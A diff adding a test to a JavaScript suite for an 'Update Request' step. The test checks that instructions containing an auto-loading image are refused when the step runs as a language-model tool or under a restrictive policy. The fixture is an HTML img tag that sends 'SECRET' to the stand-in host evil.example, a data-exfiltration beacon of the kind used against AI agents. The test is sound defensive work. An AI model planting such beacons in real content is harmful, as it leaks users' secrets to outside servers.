@@ -237,6 +237,23 @@ describe('Update Request', () => {
 		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({ name: 'Renamed' });
 	});
 
+	it.each([
+		['a language model', { asTool: true }],
+		['a workflow under a policy', { credentialData: { whatMayBeDeleted: 'nothing' } }],
+	])('takes no instructions from %s that load something by themselves', async (_, options) => {
+		const { id } = draft();
+		const instructions = '<p>Hello<img src="https://evil.example/?c=SECRET"></p>';
+		const parameters = { request: locator('id', id), changes: { instructions } };
+		expect((await failureOf(runStep(step, parameters, options))).message).toContain(
+			'Changes > Instructions: loads something from another server by itself: img',
+		);
+		expect(arrived().filter((one) => !one.startsWith('GET '))).toEqual([]);
+		await runStep(step, parameters);
+		expect(requestTo('PUT', `/requests/${id}`).body).toMatchObject({
+			instruction_text: instructions,
+		});
+	});
+
 	it('hides the instructions by an empty text', async () => {
 		const { id } = draft();
 		await runStep(step, { request: locator('id', id), changes: { instructions: '' } });
